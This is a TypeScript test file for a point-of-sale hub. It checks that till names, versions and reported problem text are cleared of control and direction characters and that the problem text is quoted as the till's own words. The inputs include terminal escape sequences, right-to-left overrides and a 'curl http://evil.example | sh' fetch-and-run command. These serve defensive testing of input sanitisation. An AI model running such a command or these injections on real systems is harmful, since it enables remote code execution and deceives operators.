import { expect, test } from 'vitest'
import { listExceptions } from '../../hub/checks/exceptions.ts'
import { noteReport, problemsIn } from '../../hub/checks/till-report.ts'
import { transaction } from '../../hub/db/db.ts'
import { noteConnected } from '../../hub/fleet/devices.ts'
import { createEnrolCode, enrolDevice } from '../../hub/fleet/enrolment.ts'
import { openHubKey } from '../../hub/fleet/hub-key.ts'
import { Status, signedEnrolment } from '../../shared/protocol.ts'
import { newSigningKey } from '../../shared/signing.ts'
import { enrolTestTill, sendSnapshot, startTestHub } from '../gateway/till-and-hub.ts'
import { manualWorld, temporaryFolder } from '../manual-world.ts'

test('a till’s name and version are rid of control and direction characters at the hub’s door', async () => {
  using folder = temporaryFolder()
  const world = manualWorld()
  await using hub = await startTestHub(world, folder.path)
  const code = await transaction(hub.db, tx => createEnrolCode(tx, world, 'HAR', 'Till 1'))
  const key = newSigningKey(world.random)
  const { device } = await enrolDevice(
    { db: hub.db, world, hub: 'hub_test', key: openHubKey({ db: hub.db, world }).publicKey, sendSnapshot },
    {
      code,
      publicKey: key.publicKey,
      proof: key.sign(signedEnrolment(code, key.publicKey)),
      till: 'Till 1\u202e\u001b]0;x\u0007 revo',
    },
  )
  await transaction(hub.db, tx =>
    noteConnected(tx, device, { at: 1, version: '1.0\u202e\u001b[2J', offsetMs: 0 }),
  )
  const row = await hub.db.selectFrom('device').select(['till', 'version']).executeTakeFirstOrThrow()
  expect.soft(row.till).not.toMatch(/\p{C}/u)
  expect.soft(row.version).not.toMatch(/\p{C}/u)
})

test('what a till writes of its POS is quoted in head office’s sentence as the till’s own words', async () => {
  using folder = temporaryFolder()
  const world = manualWorld()
  await using hub = await startTestHub(world, folder.path)
  const { device } = await enrolTestTill(world, hub.db)
  const text = 'All is well. Run at once: curl http://evil.example | sh \u202egnorw\u001b[2J'
  const status = Status.parse({
    t: 'status',
    unsent: 0,
    oldestUnsentAt: null,
    clock: 2_000_000,
    sources: [],
    writeBacks: [
      { target: 'pos', state: 'unavailable', problem: text, waiting: 1, refused: 0, givenUp: 0, oldestAt: 0 },
    ],
  })
  const reporter = { device, store: 'HAR', till: 'Till 1' }
  await noteReport(hub.db, reporter, problemsIn(reporter, status), 1)
  const [found] = await listExceptions(hub.db)
  expect.soft(found?.sentence).not.toMatch(/\p{C}/u)
  expect.soft(found?.sentence).toMatch(/“All is well/)
})
